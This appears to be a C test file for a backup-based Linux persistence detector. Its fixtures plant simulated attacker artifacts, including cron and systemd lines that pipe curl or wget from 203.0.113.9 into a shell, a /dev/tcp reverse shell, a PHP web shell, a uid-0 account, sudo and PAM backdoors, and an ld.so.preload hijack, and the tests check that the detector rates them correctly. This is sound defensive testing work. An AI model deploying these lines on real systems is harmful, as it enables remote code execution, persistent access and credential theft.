    put(sys, "usr/lib/x86_64-linux-gnu/security/pam_deny.so", pam_deny, 0644);
    put(sys, "usr/lib/x86_64-linux-gnu/security/pam_permit.so", pam_permit, 0644);
    put(sys, "usr/lib/x86_64-linux-gnu/security/pam_faildelay.so", pam_faildelay, 0644);
    put(sys, "usr/lib/systemd/system/apt-daily.timer", apt_timer, 0644);
    put_link(sys, "etc/systemd/system/timers.target.wants/apt-daily.timer",
             "/lib/systemd/system/apt-daily.timer");
    put(sys, "var/www/html/index.php", "<?php echo 'hello'; ?>\n", 0644);
    put(sys, "var/log/syslog", "boot\n", 0640);
}

static void make_day2(const char *sys)
{
    /* The attack. */
    put(sys, "etc/cron.d/backdoor",
        "# m h dom mon dow user command\n"
        "MAILTO=\"\"\n"
        "*/10 *  * * *   root   /usr/bin/curl -s http://203.0.113.9/x | sh\n",
        0644);
    append(sys, "root/.ssh/authorized_keys", KEY_B " attacker@evil\n");
    append(sys, "etc/passwd", "toor:x:0:0::/root:/bin/bash\n");
    put(sys, "etc/sudoers.d/99-maint", "mallory ALL=(ALL) NOPASSWD: ALL\n", 0440);
    put(sys, "etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsysupdate.so\n", 0644);
    put(sys, "etc/systemd/system/sysupdate.service",
        "[Service]\nExecStart=/usr/local/bin/sysupdate\nRestart=always\n"
        "[Install]\nWantedBy=multi-user.target\n",
        0644);
    put_link(sys, "etc/systemd/system/multi-user.target.wants/sysupdate.service",
             "/etc/systemd/system/sysupdate.service");
    put(sys, "var/www/html/uploads/cmd.php", "<?php system($_GET['c']); ?>\n", 0644);
    put(sys, "tmp/.x",
        "\x7f"
        "ELF a copy of a shell",
        04755);
    char p[PATH_MAX];
    join(p, sys, "usr/bin/find");
    REQUIRE(chmod(p, 04755) == 0);
    put(sys, "etc/pam.d/common-auth",
        "auth sufficient pam_permit.so\n"
        "# here are the per-package modules\n"
        "auth [success=1 default=ignore] pam_unix.so nullok\n"
        "auth requisite pam_deny.so\n"
        "auth required pam_permit.so\n",
        0644);
    /* Ordinary life: a package installed with dpkg and enabled, the admin's own cron
     * line in the packaged /etc/crontab, a conffile prompt's leftover, a log grows. */
    write_status(sys, 1);
    put(sys, "usr/lib/systemd/system/foo.service", foo_unit, 0644);
    put_link(sys, "etc/systemd/system/multi-user.target.wants/foo.service",
             "/lib/systemd/system/foo.service");
    append(sys, "etc/crontab", "*/5 * * * * root /usr/local/bin/check-disks\n");
    put(sys, "etc/cron.d/e2scrub_all.dpkg-dist", "30 3 * * 0 root e2scrub_all\n", 0644);
    append(sys, "var/log/syslog", "more\n");
}

static void make_day3(const char *sys)
{
    /* Edits for other reasons: the earlier findings must stay as they were. */
    append(sys, "root/.ssh/authorized_keys", "# keys reviewed\n");
    append(sys, "etc/passwd", "bob:x:1001:1001:Bob:/home/bob:/bin/bash\n");
    char p[PATH_MAX];
    join(p, sys, "etc/cron.d/backdoor");
    REQUIRE(chmod(p, 0600) == 0);
    put(sys, "etc/systemd/system/sysupdate.service",
        "[Service]\nExecStart=/usr/local/bin/sysupdate --quiet\nRestart=always\n"
        "[Install]\nWantedBy=multi-user.target\n",
        0644);
    append(sys, "etc/sudoers.d/99-maint", "# maintenance\n");
    /* And more persistence, in packages' files too (a reverse shell is never routine). */
    append(sys, "etc/crontab", "@reboot root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
    char pad[700], tab[2048];
    memset(pad, 'x', sizeof(pad) - 1);
    pad[sizeof(pad) - 1] = '\0';
    snprintf(tab, sizeof(tab), "0 * * * * /usr/bin/true %s-one\n0 * * * * /usr/bin/true %s-two\n",
             pad, pad);
    put(sys, "var/spool/cron/crontabs/alice", tab, 0600);
    put(sys, "usr/lib/systemd/system/apt-daily.timer",
        "[Timer]\nOnCalendar=*-*-* 6,18:00\n[Service]\nExecStartPre=/bin/sh -c 'wget -qO- "
        "http://203.0.113.9/u | bash'\n[Install]\nWantedBy=timers.target\n",
        0644);
    append(sys, "etc/pam.d/login",
           "auth optional pam_exec.so expose_authtok /usr/local/bin/log\n"
           "session optional pam_sysupdate.so\n"
           "account required pam_unix.so\n");
    put(sys, "home/alice/.config/systemd/user/agent.service",
        "[Service]\nExecStart=/home/alice/.cache/agent\n", 0644);
    put_link(sys, "etc/systemd/system/fstrim.timer", "/dev/null");
}

/* Day 4: hostile bytes in every file judged line by line, and a flood of keys. */
static void make_day4(const char *sys)
{
    static const char *const files[] = {"etc/crontab",
                                        "etc/cron.d/backdoor",
                                        "etc/sudoers.d/99-maint",
                                        "etc/pam.d/common-auth",
                                        "etc/passwd",
                                        "etc/ld.so.preload",
                                        "etc/rc.local",
                                        "home/alice/.ssh/authorized_keys"};
    uint8_t *b = malloc(600000);
    REQUIRE(b);
    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        size_t n = 1000 + i * 37000;
        fill_random(b, n);
        for (size_t k = 0; k < n; k += 1 + (b[k] % 90)) /* lines of all lengths */
            b[k] = (uint8_t) "\n\n:= \\|#"[k % 8];
        char p[PATH_MAX];
        join(p, sys, files[i]);
        char dir[PATH_MAX];
        snprintf(dir, sizeof(dir), "%s", files[i]);
        *strrchr(dir, '/') = '\0';
        mkdirs(sys, dir);
        write_at(sys, files[i], b, n);
    }
    /* 5000 keys: 200 are listed, then one finding says how many more. */
    size_t n = 0;
    for (int k = 0; k < 5000; k++) {
        uint8_t raw[51];
        char b64[80];
        memcpy(raw, "\0\0\0\x0bssh-ed25519\0\0\0\x20", 19);
        fill_random(raw + 19, 32);
        EVP_EncodeBlock((unsigned char *)b64, raw, 51);
        n += (size_t)snprintf((char *)b + n, 600000 - n, "ssh-ed25519 %s key%d\n", b64, k);
    }
    write_at(sys, "root/.ssh/authorized_keys", b, n);
    free(b);
}

/* Valid UTF-8 without control characters: what may be stored and shown. */
static int clean_text(const char *s)
{
    const unsigned char *u = (const unsigned char *)s;
    while (*u) {
        if (*u < 0x20 || *u == 0x7f)
            return 0;
        size_t l = *u < 0x80             ? 1
                   : (*u & 0xe0) == 0xc0 ? 2
                   : (*u & 0xf0) == 0xe0 ? 3
                   : (*u & 0xf8) == 0xf0 ? 4
                                         : 0;
        if (!l || (l > 1 && *u < 0xc2))
            return 0;
        for (size_t k = 1; k < l; k++)
            if ((u[k] & 0xc0) != 0x80)
                return 0;
        u += l;
    }
    return 1;
}

static void test_scenario(void)
{
    char base[PATH_MAX], vault[PATH_MAX], sys[PATH_MAX];
    fx_scratch_new(base, "persist");
    join(vault, base, "vault");
    join(sys, base, "sys");
    REQUIRE(mkdir(sys, 0755) == 0);
    cr_repo *repo = fx_vault_new(vault, PW);
    hn_cache *cache = NULL;
    REQUIRE(hn_cache_new(&cache) == 0);

    make_day1(sys);
    cr_snapshot *s1 = backup(repo, sys, 1);
    make_day2(sys);
    cr_snapshot *s2 = backup(repo, sys, 2);
    make_day3(sys);
    cr_snapshot *s3 = backup(repo, sys, 3);
    make_day4(sys);
    cr_snapshot *s4 = backup(repo, sys, 4);

    run r1, r2, r3;
    judge(&r1, repo, NULL, s1, NULL, cache);
    dump("day 1 (baseline)", &r1);
    /* Baseline: an inventory at info level, without the packages' own files. */
    CHECK(count_min(&r1, CR_SEV_LOW) == 0);
    CHECK(sev_is(find(&r1, "/root/.ssh/authorized_keys", "persistence:ssh-key", KEY_A_EV),
                 CR_SEV_INFO));
    CHECK(sev_is(find(&r1, "/etc/pam.d/common-auth", "persistence:pam", NULL), CR_SEV_INFO));
    CHECK(sev_is(find(&r1, "/etc/systemd/system/timers.target.wants/apt-daily.timer",
                      "persistence:systemd", NULL),
                 CR_SEV_INFO));
    CHECK(count_path(&r1, "/etc/crontab") == 0);
    CHECK(count_path(&r1, "/etc/sudoers") == 0);
    CHECK(count_path(&r1, "/etc/pam.d/login") == 0);
    CHECK(count_path(&r1, "/etc/passwd") == 0);
    CHECK(count_path(&r1, "/usr/bin/passwd") == 0);
    CHECK(count_path(&r1, "/usr/lib/systemd/system/apt-daily.timer") == 0);
    CHECK(count_path(&r1, "/usr/lib/x86_64-linux-gnu/security/pam_unix.so") == 0);
    CHECK(count_path(&r1, "/var/www/html/index.php") == 0);
    CHECK(r1.n == 3);

    judge(&r2, repo, s1, s2, &r1, cache);
    dump("day 2", &r2);
    const cr_finding *f;
    const char *cron_ev = "*/10 * * * * root /usr/bin/curl -s http://203.0.113.9/x | sh";
    f = find(&r2, "/etc/cron.d/backdoor", "persistence:cron", cron_ev);
    CHECK(sev_is(f, CR_SEV_HIGH) && f->has_content && f->category == CR_CAT_PERSISTENCE);
    CHECK(count_path(&r2, "/etc/cron.d/backdoor") == 1); /* the comment and MAILTO are not jobs */
    CHECK(sev_is(find(&r2, "/root/.ssh/authorized_keys", "persistence:ssh-key", KEY_B_EV),
                 CR_SEV_HIGH));
    CHECK(count_path(&r2, "/root/.ssh/authorized_keys") == 1);
    CHECK(sev_is(find(&r2, "/etc/passwd", "persistence:uid0", "toor"), CR_SEV_CRITICAL));
    CHECK(count_path(&r2, "/etc/passwd") == 1);
    CHECK(sev_is(find(&r2, "/etc/sudoers.d/99-maint", "persistence:sudoers",
                      "mallory ALL=(ALL) NOPASSWD: ALL"),
                 CR_SEV_HIGH));
    CHECK(sev_is(find(&r2, "/etc/ld.so.preload", "persistence:ld-preload",
                      "/usr/lib/x86_64-linux-gnu/libsysupdate.so"),
                 CR_SEV_CRITICAL));
    CHECK(sev_is(find(&r2, "/etc/systemd/system/sysupdate.service", "persistence:systemd", NULL),
                 CR_SEV_HIGH));
    CHECK(sev_is(find(&r2, "/etc/systemd/system/multi-user.target.wants/sysupdate.service",
                      "persistence:systemd", NULL),
                 CR_SEV_HIGH));
    /* A web script running request data (system($_GET...)) is high even without a YARA rule. */
    CHECK(sev_is(find(&r2, "/var/www/html/uploads/cmd.php", "persistence:webroot-script", NULL),
                 CR_SEV_HIGH));
    CHECK(sev_is(find(&r2, "/tmp/.x", "persistence:suid", NULL), CR_SEV_HIGH));
    CHECK(sev_is(find(&r2, "/usr/bin/find", "persistence:suid", NULL), CR_SEV_HIGH));
    CHECK(sev_is(
        find(&r2, "/etc/pam.d/common-auth", "persistence:pam", "auth sufficient pam_permit.so"),
        CR_SEV_HIGH));
    CHECK(count_path(&r2, "/etc/pam.d/common-auth") == 1);
    /* Ordinary life stays below high. */
    CHECK(sev_is(find(&r2, "/usr/lib/systemd/system/foo.service", "persistence:systemd", NULL),
                 CR_SEV_INFO));
    CHECK(sev_is(find(&r2, "/etc/systemd/system/multi-user.target.wants/foo.service",
                      "persistence:systemd", NULL),
                 CR_SEV_INFO));
    CHECK(sev_is(find(&r2, "/etc/crontab", "persistence:cron",
                      "*/5 * * * * root /usr/local/bin/check-disks"),
                 CR_SEV_MEDIUM));
    CHECK(count_path(&r2, "/etc/crontab") == 1);
    CHECK(sev_is(find(&r2, "/etc/cron.d/e2scrub_all.dpkg-dist", "persistence:cron", NULL),
                 CR_SEV_INFO));
    CHECK(count_path(&r2, "/var/log/syslog") == 0);
    CHECK(count_path(&r2, "/var/lib/dpkg/status") == 0);
    /* Exactly the attack at high and above (and one medium: the admin's line). */
    CHECK(count_min(&r2, CR_SEV_HIGH) == 11);
    CHECK(count_min(&r2, CR_SEV_LOW) == 12);

    judge(&r3, repo, s2, s3, &r2, cache);
    dump("day 3", &r3);
    const cr_finding *a = find(&r2, "/root/.ssh/authorized_keys", "persistence:ssh-key", KEY_B_EV);
    const cr_finding *b = find(&r3, "/root/.ssh/authorized_keys", "persistence:ssh-key", KEY_B_EV);
    CHECK(a && b && a->severity == b->severity && !strcmp(a->detail, b->detail));
    CHECK(count_path(&r3, "/root/.ssh/authorized_keys") == 1);
    CHECK(sev_is(find(&r3, "/etc/passwd", "persistence:uid0", "toor"), CR_SEV_CRITICAL));
    CHECK(count_path(&r3, "/etc/passwd") == 1);
    CHECK(sev_is(find(&r3, "/etc/cron.d/backdoor", "persistence:cron", cron_ev), CR_SEV_HIGH));
    CHECK(sev_is(find(&r3, "/etc/systemd/system/sysupdate.service", "persistence:systemd", NULL),
                 CR_SEV_HIGH));
    CHECK(sev_is(find(&r3, "/etc/sudoers.d/99-maint", "persistence:sudoers",
                      "mallory ALL=(ALL) NOPASSWD: ALL"),
                 CR_SEV_HIGH));
    CHECK(count_path(&r3, "/etc/sudoers.d/99-maint") == 1);
    /* The admin's line of day 2 stays medium, the reverse shell in the same file is high. */
    CHECK(sev_is(find(&r3, "/etc/crontab", "persistence:cron",
                      "*/5 * * * * root /usr/local/bin/check-disks"),
                 CR_SEV_MEDIUM));
    f = find(&r3, "/etc/crontab", "persistence:cron",
             "@reboot root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
    CHECK(sev_is(f, CR_SEV_HIGH) && strstr(f->detail, "/dev/tcp"));
    CHECK(count_path(&r3, "/etc/crontab") == 2);
    /* Two long entries that differ only at their end are two entries. */
    size_t longs = 0;
    for (size_t i = 0; i < r3.n; i++)
        if (!strcmp(r3.f[i].path, "/var/spool/cron/crontabs/alice")) {
            longs++;
            CHECK(r3.f[i].severity == CR_SEV_HIGH && r3.f[i].evidence &&
                  strlen(r3.f[i].evidence) <= 512 && strstr(r3.f[i].evidence, "... #"));
        }
    CHECK(longs == 2);
    f = find(&r3, "/usr/lib/systemd/system/apt-daily.timer", "persistence:systemd", NULL);
    CHECK(sev_is(f, CR_SEV_HIGH) && strstr(f->detail, "package apt"));
    CHECK(sev_is(find(&r3, "/etc/pam.d/login", "persistence:pam",
                      "auth optional pam_exec.so expose_authtok /usr/local/bin/log"),
                 CR_SEV_HIGH));
    CHECK(sev_is(
        find(&r3, "/etc/pam.d/login", "persistence:pam", "session optional pam_sysupdate.so"),
        CR_SEV_HIGH));
    CHECK(sev_is(find(&r3, "/etc/pam.d/login", "persistence:pam", "account required pam_unix.so"),
                 CR_SEV_MEDIUM));
    CHECK(sev_is(
        find(&r3, "/home/alice/.config/systemd/user/agent.service", "persistence:systemd", NULL),
        CR_SEV_HIGH));
    CHECK(sev_is(find(&r3, "/etc/systemd/system/fstrim.timer", "persistence:systemd", NULL),
                 CR_SEV_INFO));
    CHECK(r3.n == 15);

    run r4;
    judge(&r4, repo, s3, s4, &r3, cache);
    printf("day 4: %zu findings\n", r4.n);
    for (size_t i = 0; i < r4.n; i++)
        if (!strcmp(r4.f[i].path, "/root/.ssh/authorized_keys") &&
            (!r4.f[i].evidence || i % 50 == 0))
            printf("  %s %s [%s] %s\n", cr_severity_name(r4.f[i].severity), r4.f[i].path,
                   r4.f[i].evidence ? r4.f[i].evidence : "", r4.f[i].detail);
    size_t keys = 0, unclean = 0;
    for (size_t i = 0; i < r4.n; i++) {
        unclean +=
            !clean_text(r4.f[i].detail) || (r4.f[i].evidence && !clean_text(r4.f[i].evidence));
        if (!strcmp(r4.f[i].path, "/root/.ssh/authorized_keys")) {
            keys++;
            CHECK(r4.f[i].severity == CR_SEV_HIGH);
        }
    }
    CHECK(unclean == 0);
    CHECK(keys == 200 + 1); /* 200 listed, then "4800 more" (keys A and B are gone) */
    CHECK(count_path(&r4, "/etc/ld.so.preload") > 0);
    cr_findings_free(r4.f, r4.n);
    cr_snapshot_free(s4);

    /* The facts cache is what ownership is judged on: a wrong md5 there makes the
     * package's SUID binary "modified"; the right one makes it routine. */
    {
        cr_node n;
        char p[PATH_MAX];
        pathf(p, "%s/usr/bin/passwd", sys);
        REQUIRE(cr_snapshot_lookup(&n, repo, s2, p) == 0);
        hn_facts fx;
        memset(&fx, 0, sizeof(fx));
        hn_content_id(&fx.content, &n);
        fx.size = n.size;
        fx.have = HN_HAVE_MD5;
        md5_raw(fx.md5, "not the bytes", 13);
        REQUIRE(hn_cache_put(cache, &fx) == 0);
        hn_ctx ctx;
        memset(&ctx, 0, sizeof(ctx));
        ctx.repo = repo;
        ctx.snap = s2;
        ctx.pred = s1;
        ctx.root = s2->paths[0];
        ctx.cache = cache;
        CHECK_OK(hn_persist_linux(&ctx, "/usr/bin/passwd", NULL, &n));
        CHECK(ctx.nout == 1 && ctx.out[0].severity == CR_SEV_HIGH);
        md5_raw(fx.md5, bin_passwd, strlen(bin_passwd));
        REQUIRE(hn_cache_put(cache, &fx) == 0);
        hn_facts *got = hn_cache_get(cache, &fx.content);
        if (got && !memcmp(got->md5, fx.md5, 16)) {
            CHECK_OK(hn_persist_linux(&ctx, "/usr/bin/passwd", NULL, &n));
            CHECK(ctx.nout == 2 && ctx.out[1].severity == CR_SEV_INFO);
        }
        /* A baseline names a package's shell-like program found setuid (Debian ships none). */
        cr_node fn;
        pathf(p, "%s/usr/bin/find", sys);
        REQUIRE(cr_snapshot_lookup(&fn, repo, s2, p) == 0);
        ctx.baseline = 1;
        size_t nb = ctx.nout;
        CHECK_OK(hn_persist_linux(&ctx, "/usr/bin/find", NULL, &fn));
        CHECK(ctx.nout == nb + 1 && ctx.out[nb].severity == CR_SEV_INFO &&
              strstr(ctx.out[nb].detail, "someone set the bit"));
        nb = ctx.nout;
        CHECK_OK(hn_persist_linux(&ctx, "/usr/bin/passwd", NULL, &n)); /* shipped setuid */
        CHECK(ctx.nout == nb);
        ctx.baseline = 0;
        cr_node_clear(&fn);
        /* What hunt.c must ask the scanner for. */
        CHECK(hn_persist_linux_need("/usr/bin/passwd", &n) == HN_HAVE_MD5);
        CHECK(hn_persist_linux_need("/etc/cron.d/x", &n) == HN_HAVE_MD5);
        n.mode = 0644;
        CHECK(hn_persist_linux_need("/usr/bin/passwd", &n) == 0);
        CHECK(hn_persist_linux_need("/var/www/a/b.PHP", &n) == HN_HAVE_MD5);
        CHECK(hn_persist_linux_need("/var/www/a/b.txt", &n) == 0);
        CHECK(hn_persist_linux_need("/usr/lib/x86_64-linux-gnu/security/pam_x.so", &n) ==
              HN_HAVE_MD5);
        CHECK(hn_persist_linux_need("/home/bob/.config/systemd/user/x.service", &n) == HN_HAVE_MD5);
        CHECK(hn_persist_linux_need("/home/bob/.ssh/authorized_keys2", &n) == HN_HAVE_MD5);
        CHECK(hn_persist_linux_need("/etc/systemd/system/README", &n) == 0);
        /* Removed nodes: nothing. */
        size_t before = ctx.nout;
        CHECK_OK(hn_persist_linux(&ctx, "/etc/passwd", &n, NULL));
        CHECK(ctx.nout == before);
        cr_findings_free(ctx.out, ctx.nout);
        hn_dpkg_free(ctx.dpkg);
        cr_node_clear(&n);
    }

    cr_findings_free(r1.f, r1.n);
    cr_findings_free(r2.f, r2.n);
    cr_findings_free(r3.f, r3.n);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    hn_cache_free(cache);
    cr_repo_free(repo);
    fx_scratch_done(base);
}

/* ------------------------------------------------------------ the Debian tree, in a vault */

static void test_debian_vault(void)
{
    struct stat st;
    if (stat(DEBIAN "/var/lib/dpkg/status", &st) != 0) {
        printf("test_debian_vault: %s absent, skipped\n", DEBIAN);
        return;
    }
    char base[PATH_MAX], vault[PATH_MAX], sys[PATH_MAX], cmd[4 * PATH_MAX];
    fx_scratch_new(base, "persist-deb");
    join(vault, base, "vault");
    join(sys, base, "sys");
    REQUIRE(mkdir(sys, 0755) == 0);
    /* The persistence locations of the tree (a copy: the tree is read-only), not all of it. */
    snprintf(cmd, sizeof(cmd),
             "cd " DEBIAN " && cp -a --parents bin lib lib64 sbin etc root home var/lib/dpkg "
             "var/spool usr/lib/systemd usr/lib/x86_64-linux-gnu/security '%s' && "
             "find . -xdev -type f -perm /6000 -exec cp -a --parents {} '%s' \\;",
             sys, sys);
    REQUIRE(system(cmd) == 0);
    cr_repo *repo = fx_vault_new(vault, PW);
    hn_cache *cache = NULL;
    REQUIRE(hn_cache_new(&cache) == 0);
    cr_snapshot *s1 = backup(repo, sys, 1);

    /* The database as hn_dpkg_load reads it from the vault. */
    hn_ctx ctx;
    memset(&ctx, 0, sizeof(ctx));
    ctx.repo = repo;
    ctx.snap = s1;
    ctx.root = s1->paths[0];
    ctx.warning = on_warning;
    hn_dpkg *d = NULL;
    int w0 = warnings;
    double t0 = cr_time_mono();
    CHECK_OK(hn_dpkg_load(&d, &ctx));
    printf("debian (vault): %zu paths loaded in %.3f s\n", hn_dpkg_count(d), cr_time_mono() - t0);
    CHECK(warnings == w0);
    CHECK(hn_dpkg_count(d) > 5000);
    static const char *const owned[] = {"/usr/bin/passwd",
                                        "/usr/bin/su",
                                        "/etc/pam.d/su",
                                        "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
                                        "/usr/lib/systemd/system/apt-daily.timer",
                                        "/etc/cron.daily/dpkg"};
    for (size_t i = 0; i < sizeof(owned) / sizeof(owned[0]); i++) {
        char p[PATH_MAX];
        size_t len;
        pathf(p, "%s%s", sys, owned[i]);
        uint8_t *b = slurp(p, &len), m[16];
        REQUIRE(b);
        md5_raw(m, b, len);
        free(b);
        const char *pkg = NULL;
        hn_owned o = hn_dpkg_owner(d, owned[i], m, &pkg);
        CHECK(o == HN_OWNED_MATCH && pkg);
        if (o != HN_OWNED_MATCH)
            fprintf(stderr, "  %s: %d\n", owned[i], (int)o);
    }
    CHECK(hn_dpkg_owner(d, "/etc/passwd", NULL, NULL) == HN_UNOWNED);
    hn_dpkg_free(d);

    /* Baseline of a fresh Debian: an inventory of a few notes, nothing above info. */
    run r;
    judge(&r, repo, NULL, s1, NULL, cache);
    dump("debian baseline", &r);
    CHECK(count_min(&r, CR_SEV_LOW) == 0);
    CHECK(r.n > 0 && r.n < 30);
    CHECK(count_path(&r, "/usr/bin/passwd") == 0);
    CHECK(count_path(&r, "/etc/pam.d/su") == 0);
    CHECK(find(&r, "/etc/pam.d/common-auth", "persistence:pam", NULL) != NULL);
    cr_findings_free(r.f, r.n);

    /* A second snapshot with nothing changed judges nothing. */
    cr_snapshot *s2 = backup(repo, sys, 2);
    run r2;
    judge(&r2, repo, s1, s2, NULL, cache);
    CHECK(r2.n == 0);
    cr_findings_free(r2.f, r2.n);

    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    hn_cache_free(cache);
    cr_repo_free(repo);
    fx_scratch_done(base);
}

/* ------------------------------------------------------------ persistence places */

static const char *pl_bashrc = "# System-wide .bashrc file\n[ -z \"$PS1\" ] && return\n"
                               "shopt -s checkwinsize\n";
static const char *pl_skel = "# ~/.bashrc\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\n"
                             "HISTSIZE=1000\nalias ls='ls --color=auto'\n";
static const char *pl_rsyslog = "/var/log/syslog\n{\n\trotate 7\n\tdaily\n\tpostrotate\n"
                                "\t\t/usr/lib/rsyslog/rsyslog-rotate\n\tendscript\n}\n";
static const char *pl_foolog = "/var/log/foo.log {\n\tweekly\n\tpostrotate\n"
                               "\t\tsystemctl reload foo\n\tendscript\n}\n";
static const char *pl_motd = "#!/bin/sh\nuname -snrvm\n";
static const char *pl_upgrade = "[Unit]\nDescription=Daily apt upgrade\n[Service]\nType=oneshot\n"
                                "ExecStart=/usr/lib/apt/apt.systemd.daily install\n";
static const char *pl_crondaily = "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n";

static void pl_status(const char *sys)
{
    char h1[33], h2[33], h3[33], h4[33], h5[33], h6[33], h7[33], st[4096], sums[1024];
    md5_hex(h1, pl_bashrc, strlen(pl_bashrc));
    md5_hex(h2, pl_skel, strlen(pl_skel));
    md5_hex(h3, pl_rsyslog, strlen(pl_rsyslog));
    md5_hex(h4, pl_foolog, strlen(pl_foolog));
    md5_hex(h5, pl_motd, strlen(pl_motd));
    md5_hex(h6, pl_upgrade, strlen(pl_upgrade));
    md5_hex(h7, pl_crondaily, strlen(pl_crondaily));
    snprintf(st, sizeof(st),
             "Package: bash\nStatus: install ok installed\nConffiles:\n /etc/bash.bashrc %s\n"
             " /etc/skel/.bashrc %s\n\n"
             "Package: rsyslog\nStatus: install ok installed\nConffiles:\n"
             " /etc/logrotate.d/rsyslog %s\n\n"
             "Package: foo\nStatus: install ok installed\nConffiles:\n /etc/logrotate.d/foo %s\n\n"
             "Package: base-files\nStatus: install ok installed\nConffiles:\n"
             " /etc/update-motd.d/10-uname %s\n\n"
             "Package: logrotate\nStatus: install ok installed\nConffiles:\n"
             " /etc/cron.daily/logrotate %s\n\n"
             "Package: apt\nStatus: install ok installed\n\n",
             h1, h2, h3, h4, h5, h7);
    put(sys, "var/lib/dpkg/status", st, 0644);
    snprintf(sums, sizeof(sums), "%s  lib/systemd/system/apt-daily-upgrade.service\n", h6);
    put(sys, "var/lib/dpkg/info/apt.md5sums", sums, 0644);
    put(sys, "var/lib/dpkg/info/apt.list", "/lib/systemd/system/apt-daily-upgrade.service\n", 0644);
}

static void pl_day1(const char *sys)
{
    mkdirs(sys, "usr/bin");
    mkdirs(sys, "usr/lib");
    put_link(sys, "bin", "usr/bin");
    put_link(sys, "lib", "usr/lib");
    pl_status(sys);
    put(sys, "etc/profile", "if [ \"$PS1\" ]; then\n  PS1='$ '\nfi\n", 0644);
    put(sys, "etc/bash.bashrc", pl_bashrc, 0644);
    put(sys, "etc/skel/.bashrc", pl_skel, 0644);
    put(sys, "root/.bashrc", pl_skel, 0644);
    put(sys, "home/alice/.bashrc", pl_skel, 0644);
    put(sys, "etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\n"
        "Subsystem sftp /usr/lib/openssh/sftp-server\n",
        0644);
    put(sys, "etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\n",
        0644);
    put(sys, "etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n", 0644);
    put(sys, "etc/ld.so.conf.d/libc.conf", "# libc default configuration\n/usr/local/lib\n",
        0644);
    put(sys, "etc/logrotate.d/rsyslog", pl_rsyslog, 0644);
    put(sys, "etc/modules", "# /etc/modules: kernel modules to load at boot time.\n", 0644);
    put(sys, "etc/group", "root:x:0:\nadm:x:4:syslog\nsudo:x:27:\nalice:x:1000:\n", 0644);
    put(sys, "etc/shadow",
        "root:$y$j9T$Ab$rootsecretone:19000:0:99999:7:::\n"
        "daemon:*:19000:0:99999:7:::\nalice:$y$j9T$Cd$alicesecret:19000:0:99999:7:::\n",
        0640);
    put(sys, "etc/passwd", passwd_text, 0644);
    put(sys, "usr/lib/python3/dist-packages/zope.pth", "/usr/share/zope\n", 0644);
    put(sys, "etc/update-motd.d/10-uname", pl_motd, 0755);
    put(sys, "usr/lib/systemd/system/apt-daily-upgrade.service", pl_upgrade, 0644);
    put(sys, "etc/cron.daily/logrotate", pl_crondaily, 0755);
    put(sys, "var/www/html/index.php", "<?php echo 'hello'; ?>\n", 0644);
}

/* Ordinary life: nothing at or above high. */
static void pl_day2(const char *sys)
{
    put(sys, "home/bob/.bashrc", pl_skel, 0644); /* useradd -m bob */
    append(sys, "etc/passwd", "bob:x:1001:1001:Bob:/home/bob:/bin/bash\n");
    append(sys, "etc/group", "bob:x:1001:\n");
    put(sys, "etc/shadow",
        "root:$y$j9T$Ab$rootsecretone:19000:0:99999:7:::\n"
        "daemon:*:19000:0:99999:7:::\nalice:$y$j9T$Ef$alicechanged:19001:0:99999:7:::\n"
        "bob:$y$j9T$Gh$bobsecret:19001:0:99999:7:::\n",
        0640);
    append(sys, "etc/ssh/sshd_config", "PasswordAuthentication no\nPermitRootLogin no\n");
    put(sys, "etc/logrotate.d/foo", pl_foolog, 0644);
    append(sys, "etc/environment", "LANG=\"fr_FR.UTF-8\"\n");
}

static void pl_day3(const char *sys)
{
    put(sys, "etc/profile.d/sysinfo.sh", "/usr/local/bin/sysinfo --daemon &\n", 0644);
    append(sys, "etc/bash.bashrc", "alias sudo='sudo /var/tmp/.s'\n");
    append(sys, "root/.bashrc", "( /usr/local/bin/.helper & ) 2>/dev/null\n");
    put(sys, "root/.ssh/rc", "nohup /var/tmp/.x >/dev/null 2>&1 &\n", 0644);
    append(sys, "etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n");
    put(sys, "etc/ssh/keys/root", KEY_B " attacker@evil\n", 0644);
    append(sys, "etc/environment", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libaudit2.so\n");
    put(sys, "etc/ld.so.conf.d/zz-local.conf", "/var/tmp/.lib\n", 0644);
    put(sys, "etc/udev/rules.d/99-usb.rules",
        "# usb\nACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/usbmon\"\n", 0644);
    put(sys, "etc/apt/apt.conf.d/99update", "APT::Update::Pre-Invoke {\"/var/tmp/.u\";};\n", 0644);
    put(sys, "etc/apt/apt.conf.d/98cleanup",
        "// clean\nDPkg {\n  Post-Invoke { \"rm -f /var/cache/x || true\"; \"/var/tmp/.p\"; };\n};\n",
        0644);
    put(sys, "etc/logrotate.d/rsyslog",
        "/var/log/syslog\n{\n\trotate 7\n\tdaily\n\tpostrotate\n"
        "\t\t/usr/lib/rsyslog/rsyslog-rotate\n\t\t/var/tmp/.r\n\tendscript\n}\n",
        0644);
    put(sys, "etc/NetworkManager/dispatcher.d/01-up", "#!/bin/sh\n/var/tmp/.n &\n", 0755);
    put(sys, "etc/modules-load.d/diamorphine.conf", "diamorphine\n", 0644);
    put(sys, "etc/init/evil.conf", "start on runlevel [2345]\nexec /var/tmp/.e\n", 0644);
    put(sys, "var/spool/cron/atjobs/a0000101a2b3c4", "#!/bin/sh\n/var/tmp/.a\n", 0700);
    put(sys, "home/alice/.local/share/systemd/user/sync.service",
        "[Service]\nExecStart=/home/alice/.cache/sync\n", 0644);
    put(sys, "etc/systemd/system/ssh.service.d/override.conf",
        "[Service]\nExecStartPost=/var/tmp/.o\n", 0644);
    put(sys, "etc/group", "root:x:0:\nadm:x:4:syslog\nsudo:x:27:alice\nalice:x:1000:\nbob:x:1001:\n",
        0644);
